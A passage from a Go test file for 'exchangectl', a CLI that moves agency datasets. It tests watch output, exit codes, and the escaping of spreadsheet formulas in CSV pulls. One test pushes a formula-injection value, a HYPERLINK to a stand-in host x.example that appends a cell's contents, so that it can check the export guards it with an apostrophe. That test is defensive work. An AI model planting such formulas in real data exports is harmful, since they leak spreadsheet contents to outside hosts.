	f.runAsIn(dir, "agency/iom", "datasets", "push", "ilo/returns", "-f", "gone.csv").must(t)
	var lines []string
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		if lines = w.waitLines(t, 1); strings.Contains(lines[len(lines)-1], "deleted") {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if code := w.stop(t); code != ExitOK {
		t.Errorf("exit %d after interrupt; stderr:\n%s", code, w.stderr)
	}
	lines = strings.Split(strings.TrimSpace(w.stdout.String()), "\n")
	distinct := map[string]bool{}
	for _, l := range lines {
		distinct[l] = true
	}
	for _, want := range []string{
		fmt.Sprintf("%-8d written 2026-04 KH-1 iom age_group=12-17 sex=female returned=7", from+1),
		fmt.Sprintf("%-8d written 2026-04 KH-12 iom age_group=25+ sex=female notes=\"by air\" returned=2", from+1),
		fmt.Sprintf("%-8d deleted 2026-04 KH-1 iom age_group=12-17 sex=male", from+2),
	} {
		if !distinct[want] {
			t.Errorf("watch output lacks %q:\n%s", want, w.stdout)
		}
	}
	if len(distinct) != 4 || len(lines) > 6 {
		t.Errorf("%d lines, %d distinct, want 4 distinct:\n%s", len(lines), len(distinct), w.stdout)
	}
	if !strings.Contains(w.stderr.String(), "exchangectl: watch interrupted (rpc error: code = Unavailable") || !strings.Contains(w.stderr.String(), fmt.Sprintf("after revision %d", from)) {
		t.Errorf("stderr %q", w.stderr)
	}

	// JSON lines: rows as 'pull --format jsonl' writes them.
	w = f.startRun(t, "agency/mosvy", "--json", "datasets", "watch", "ilo/returns", "--from", fmt.Sprint(from+1))
	lines = w.waitLines(t, 1)
	if code := w.stop(t); code != ExitOK {
		t.Errorf("exit %d", code)
	}
	var row exchangev1.Row
	if err := protojson.Unmarshal([]byte(lines[0]), &row); err != nil || !row.GetDeleted() || row.GetRevision() != from+2 {
		t.Errorf("JSON line (%v): %s", err, lines[0])
	}
	if r := f.runAs("agency/mosvy", "--timeout", "200ms", "datasets", "watch", "ilo/returns"); r.code != ExitOK {
		t.Errorf("watch --timeout: exit %d, stderr %q", r.code, r.stderr)
	}
	if r := f.runAs("agency/wvi", "datasets", "watch", "ilo/nothing"); r.code != ExitNotFound {
		t.Errorf("watch a missing dataset: exit %d", r.code)
	}
}

func TestRunDatasetsExitCodes(t *testing.T) {
	f, dir := pushedFixture(t)
	writeFile(t, dir, "typo.yaml", "id: returns\ntitel: Returns\n")
	writeFile(t, dir, "bad.csv", "period,location,sex,age_group,returned", "2026-03,KH-12,female,18-24,-4")
	// An address where nothing listens: UNAVAILABLE after the retries.
	down := f.agencyFlags("agency/iom")
	down[1] = "127.0.0.1:1"
	for _, tc := range []struct {
		name string
		args []string
		want int
	}{
		{"pushed and pulled", append(f.agencyFlags("agency/iom"), "datasets", "pull", "ilo/returns"), ExitOK},
		{"usage: --tombstones without --since", append(f.agencyFlags("agency/iom"), "datasets", "pull", "ilo/returns", "--tombstones"), ExitUsage},
		{"usage: no -f", append(f.agencyFlags("agency/iom"), "datasets", "push", "ilo/returns"), ExitUsage},
		{"usage: bad id", append(f.agencyFlags("agency/iom"), "datasets", "get", "Returns"), ExitUsage},
		{"usage: unknown verb", append(f.agencyFlags("agency/iom"), "datasets", "delete", "returns"), ExitUsage},
		{"not found", append(f.agencyFlags("agency/iom"), "datasets", "completeness", "ilo/nothing", "2026-03"), ExitNotFound},
		{"denied", append(f.agencyFlags("agency/iom"), "datasets", "unlock", "ilo/returns", "2026-03", "--reason", "x"), ExitDenied},
		{"conflict", append(f.agencyFlags("agency/ilo"), "datasets", "create", "-f", "dataset.yaml"), ExitConflict},
		{"invalid file", append(f.agencyFlags("agency/ilo"), "datasets", "create", "-f", "typo.yaml"), ExitInvalid},
		{"invalid argument", append(f.agencyFlags("agency/ilo"), "datasets", "aggregate", "returns", "--by", "colour"), ExitInvalid},
		{"failed precondition", append(f.agencyFlags("agency/ilo"), "datasets", "unlock", "returns", "2026-03", "--reason", "x"), ExitInvalid},
		{"rows rejected", append(f.agencyFlags("agency/iom"), "datasets", "push", "ilo/returns", "-f", "bad.csv"), ExitInvalid},
		{"unavailable", append(down, "datasets", "get", "ilo/returns"), ExitUnavailable},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if r := f.runIn(newTestEnvIn(t, dir), tc.args...); r.code != tc.want {
				t.Errorf("exit %d, want %d; stderr %q", r.code, tc.want, r.stderr)
			}
		})
	}
}

// TestRunDatasetsPullGuardsFormulas pushes a text that a spreadsheet would
// run as a formula and checks that a CSV pull guards it with an
// apostrophe, that --raw-text writes it as stored, and that pushing the
// guarded file back stores the text unchanged.
func TestRunDatasetsPullGuardsFormulas(t *testing.T) {
	f, dir := pushedFixture(t)
	rev := f.server.Revision()
	writeFile(t, dir, "formula.csv", "period,location,sex,age_group,returned,notes",
		`2026-04,KH-12,female,25+,3,"=HYPERLINK(""http://x.example/?""&A1)"`)
	f.runAsIn(dir, "agency/iom", "datasets", "push", "ilo/returns", "-f", "formula.csv").must(t)

	guarded := f.runAsIn(dir, "agency/mosvy", "datasets", "pull", "ilo/returns", "--since", fmt.Sprint(rev)).must(t)
	if !strings.Contains(guarded.stdout, `,"'=HYPERLINK(""http://x.example/?""&A1)"`) {
		t.Errorf("pull without --raw-text does not guard the formula:\n%s", guarded.stdout)
	}
	raw := f.runAsIn(dir, "agency/mosvy", "datasets", "pull", "ilo/returns", "--since", fmt.Sprint(rev), "--raw-text").must(t)
	if !strings.Contains(raw.stdout, `,"=HYPERLINK(""http://x.example/?""&A1)"`) {
		t.Errorf("pull --raw-text changed the text:\n%s", raw.stdout)
	}

	// The guarded file pushed back stores the text as it was: the row
	// does not change, so no revision is made.
	writeFile(t, dir, "again.csv", strings.Split(strings.TrimSpace(strings.ReplaceAll(guarded.stdout, "agencies/iom", "")), "\n")...)
	before := f.server.Revision()
	f.runAsIn(dir, "agency/iom", "datasets", "push", "ilo/returns", "-f", "again.csv").must(t)
	again := f.runAsIn(dir, "agency/mosvy", "datasets", "pull", "ilo/returns", "--since", fmt.Sprint(rev), "--raw-text").must(t)
	if again.stdout != raw.stdout {
		t.Errorf("after pushing the guarded file back (revision %d → %d):\n%s\nwant\n%s", before, f.server.Revision(), again.stdout, raw.stdout)
	}
}
